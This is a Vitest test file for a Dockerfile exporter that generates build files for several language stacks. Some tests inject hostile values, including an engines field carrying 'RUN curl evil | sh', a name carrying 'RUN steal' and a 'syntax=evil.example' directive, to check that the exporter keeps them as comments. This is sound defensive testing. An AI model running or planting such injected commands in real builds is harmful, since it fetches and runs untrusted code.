import { describe, expect, it } from 'vitest';
import { exportFiles } from '../../../../src/exporters/kubernetes/exportFiles';
import type { WrittenCommand } from '../../../../src/services/definitions/definition';
import { aDefinition } from '../../../fakes/samples';
import { gathered } from './exported';

const npmRun = (script: string): WrittenCommand => ({
  script: 'npm',
  args: ['run', script],
  interpreterArgs: [],
});
const command = (script: string, ...args: readonly string[]): WrittenCommand => ({
  script,
  args,
  interpreterArgs: [],
});
const manifest = (scripts: object, more: object = {}): string =>
  JSON.stringify({ scripts, ...more });

async function dockerfileOf(
  written: WrittenCommand,
  files: Readonly<Record<string, string>>,
): Promise<ReadonlyMap<string, string>> {
  const definition = aDefinition({ written, port: 3000 });
  return exportFiles(await gathered([definition], files)).once;
}

it('takes no line from what a project says of its node', async () => {
  const engines = { node: '22\nRUN curl evil | sh #' };
  const files = { '/w/backend/package.json': manifest({ dev: 'next dev' }, { engines }) };
  const text = (await dockerfileOf(npmRun('dev'), files)).get('backend/Dockerfile') ?? '';
  expect(text).toContain('asks for node 22 RUN curl evil');
  expect(text.split('\n').filter((line) => line.includes('evil'))).toHaveLength(1);
});

describe('a Dockerfile', () => {
  it.each<[string, WrittenCommand, Record<string, string>, readonly string[]]>([
    [
      'of Next.js: what its tool says for production',
      npmRun('dev'),
      {
        'package.json': manifest({ dev: 'next dev', build: 'next build' }),
        'package-lock.json': '{}',
        '.nvmrc': '20.11',
      },
      [
        '# .nvmrc asks for node 20.11.',
        'ARG NODE_IMAGE=node:20-slim',
        'COPY ["package.json","package-lock.json","./"]',
        'RUN npm ci',
        'RUN npm run build',
        'RUN npm prune --omit=dev',
        'USER 1000:1000',
        'EXPOSE 3000',
        'CMD ["next","start"]',
      ],
    ],
    [
      'of tsx: as in development, which is said',
      npmRun('dev'),
      {
        'package.json': manifest(
          { dev: 'tsx watch src/index.ts' },
          { devDependencies: { tsx: '4' } },
        ),
        'pnpm-lock.yaml': '',
      },
      [
        '# TODO: no production command',
        'RUN corepack enable',
        'RUN pnpm install --frozen-lockfile',
        'CMD ["node","--import","tsx","src/index.ts"]',
      ],
    ],
    [
      'of a start script that is not for development',
      npmRun('dev'),
      {
        'package.json': manifest({
          dev: 'nodemon src/index.ts',
          build: 'tsc',
          start: 'node dist/index.js',
        }),
      },
      ['RUN npm install', 'RUN npm run build', 'CMD ["node","dist/index.js"]'],
    ],
    [
      'of Vite: a preview listens for others',
      npmRun('dev'),
      { 'package.json': manifest({ dev: 'vite' }), 'yarn.lock': '' },
      ['RUN npx vite build', 'CMD ["vite","preview","--host","0.0.0.0"]'],
    ],
    [
      'whose packages need more than package.json',
      npmRun('start'),
      { 'package.json': manifest({ start: 'node a.js', postinstall: 'prisma generate' }) },
      ['COPY . .\nRUN npm install\n'],
    ],
    [
      'of cargo: the binary alone',
      command('cargo', 'run', '--', '--fast'),
      {
        'Cargo.toml': '[package]\nname = "gen"\n',
        'Cargo.lock': '',
        'src/main.rs': '',
      },
      [
        'RUN cargo build --release --locked --bin gen --target-dir /build',
        'COPY --from=build /build/release/gen /usr/local/bin/gen',
        'CMD ["/usr/local/bin/gen","--fast"]',
      ],
    ],
    [
      'of go: its package, built whole',
      command('go', 'run', './cmd/api', 'serve'),
      { 'go.mod': 'module x' },
      [
        'RUN CGO_ENABLED=0 go build -o /build/service ./cmd/api',
        'CMD ["/usr/local/bin/service","serve"]',
      ],
    ],
    [
      'of FastAPI',
      command('fastapi', 'dev', 'main.py'),
      { 'requirements.txt': 'fastapi' },
      ['RUN pip install --no-cache-dir -r requirements.txt', 'CMD ["fastapi","run"]'],
    ],
  ])('%s', async (_, written, files, lines) => {
    const all = Object.entries(files).map(([name, text]) => [`/w/backend/${name}`, text]);
    const once = await dockerfileOf(written, Object.fromEntries(all) as Record<string, string>);
    const text = once.get('backend/Dockerfile') ?? '';
    for (const line of lines) expect(text).toContain(line);
    expect(once.get('backend/.dockerignore')).toContain('.env');
  });

  it('a workspace of packages is built as a whole', async () => {
    const once = await dockerfileOf(npmRun('dev'), {
      '/w/package.json': JSON.stringify({ workspaces: ['backend'] }),
      '/w/package-lock.json': '{}',
      '/w/backend/package.json': manifest({ dev: 'next dev', build: 'next build' }),
    });
    const text = once.get('backend/Dockerfile') ?? '';
    expect(text).toContain('COPY . .\nRUN npm ci\nWORKDIR /app/backend\nRUN npm run build\n');
    expect(text).toContain('/app/backend/node_modules/.bin:/app/node_modules/.bin');
    expect([...once.keys()]).toContain('.dockerignore');
  });

  it('keeps what production starts, though it is a package for development', async () => {
    const files = (name: string) => ({
      '/w/backend/package.json': manifest({ dev: 'tsx a.ts' }, { [name]: { tsx: '4' } }),
    });
    const kept = await dockerfileOf(npmRun('dev'), files('devDependencies'));
    expect(kept.get('backend/Dockerfile')).not.toContain('prune');
    const pruned = await dockerfileOf(npmRun('dev'), files('dependencies'));
    expect(pruned.get('backend/Dockerfile')).toContain('prune');
  });

  it('has no instruction that a name has brought', async () => {
    const definition = aDefinition({ name: 'a\nRUN steal', written: npmRun('dev') });
    const files = { '/w/backend/package.json': manifest({ dev: 'next dev' }) };
    const { once } = exportFiles(await gathered([definition], files));
    expect(once.get('backend/Dockerfile')).toMatch(/^#.*\n# a RUN steal\n/);
  });

  it.each([
    ['where one is', { '/w/backend/Dockerfile': 'FROM mine' }],
    ['for a manager that node’s images do not have', { '/w/backend/bun.lock': '' }],
  ])('is not written %s', async (_, files) => {
    const bare = { '/w/backend/package.json': manifest({ dev: 'next dev' }) };
    expect((await dockerfileOf(npmRun('dev'), bare)).has('backend/Dockerfile')).toBe(true);
    const once = await dockerfileOf(npmRun('dev'), { ...bare, ...files });
    expect(once.has('backend/Dockerfile')).toBe(false);
  });
});

it('takes no program to read it from the name of a service', async () => {
  const definition = aDefinition({ name: 'syntax=evil.example/x y', written: npmRun('dev') });
  const files = { '/w/backend/package.json': manifest({ dev: 'next dev' }) };
  const { once } = exportFiles(await gathered([definition], files));
  const [text = ''] = [...once].flatMap(([name, one]) => (name.endsWith('Dockerfile') ? one : []));
  expect(text.split('\n')[0]).toMatch(/^# Made by CODEX Services/);
});
